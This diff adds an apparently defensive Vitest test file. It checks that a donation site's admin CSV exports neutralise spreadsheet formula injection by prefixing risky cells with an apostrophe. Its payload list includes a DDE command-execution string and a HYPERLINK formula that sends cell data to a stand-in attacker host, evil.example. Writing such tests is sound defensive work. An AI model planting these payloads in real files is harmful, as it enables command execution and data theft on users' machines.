@@ -1,0 +1,79 @@
+import { sql } from 'drizzle-orm';
+import { describe, expect, test } from 'vitest';
+import { readContracts } from '#server/testing/contracts.ts';
+import { furnish } from '#server/testing/furnish.ts';
+import { useTestSite } from '#server/testing/testSite.ts';
+
+const site = useTestSite();
+const exports = (await readContracts()).filter(({ endpoint }) => endpoint.format === 'csv');
+
+/** The cells of a CSV text by RFC 4180, as a spreadsheet would read it. */
+function cellsOf(csv: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
+    if (end === '\r\n') rows.push([]);
+    if (end === '') break;
+  }
+  return rows.slice(0, -1);
+}
+
+/** Puts a text wherever someone could have typed one that an export shows. */
+async function writeEverywhere(text: string): Promise<void> {
+  await site.database
+    .execute(sql`update donations set bin_location = ${text}, drop_site = ${text}, notes = ${text},
+    student_id = ${text}, rejection_reason = ${text}, photo_url = ${text},
+    confirmed_by = case when is_confirmed then ${text} end, rejected_by = case when rejected_at is not null then ${text} end`);
+  await site.database.execute(
+    sql`update participants set display_name = ${text}, email = ${text}, phone = ${text}`,
+  );
+  await site.database.execute(sql`update discount_codes set partner_id = 1`);
+  await site.database.execute(sql`update partners set name = ${text}`);
+}
+
+const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＋1', '－1', '＠SUM(A1)'];
+const payloads = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?"&A1,"a,b")',
+  '-2+3\r\n=1',
+  '+"x"',
+  '@"\t"',
+];
+const harmless = ['"=1+1"', 'a=b', "'=1", 'a,"b"\r\nc', ';=1', ' ', '½', '1-2'];
+
+describe.each(exports)('the file of $name', ({ endpoint }) => {
+  /** The rows without their header, once a text is wherever someone could have typed one. */
+  async function rowsWith(text: string) {
+    await writeEverywhere(text);
+    const admin = await site.admin();
+    const { status, body } = await admin.send<string>('GET', endpoint.path);
+    expect({ status, begins: body.at(0) }).toEqual({ status: 200, begins: '\ufeff' });
+    const [header = [], ...rows] = cellsOf(body.slice(1));
+    expect(rows.length).toBeGreaterThan(0);
+    for (const row of rows) expect(row, text).toHaveLength(header.length);
+    return rows;
+  }
+
+  test('begins no cell with what a spreadsheet runs', async () => {
+    await furnish(site);
+    for (const text of [...formulas, ...payloads]) {
+      const cells = (await rowsWith(text)).flat();
+      expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+      // All of it is still there, behind an apostrophe.
+      expect(cells).toContain(`'${text}`);
+    }
+  });
+
+  test('holds what is harmless as it is', async () => {
+    await furnish(site);
+    for (const text of harmless) expect((await rowsWith(text)).flat()).toContain(text);
+  });
+});
+
+test('every table that can be saved is among those files', () => {
+  expect(exports.map(({ endpoint }) => endpoint.path).toSorted()).toEqual([
+    '/api/admin/codes/export.csv',
+    '/api/admin/donations/export.csv',
+    '/api/admin/participants/export.csv',
+  ]);
+});
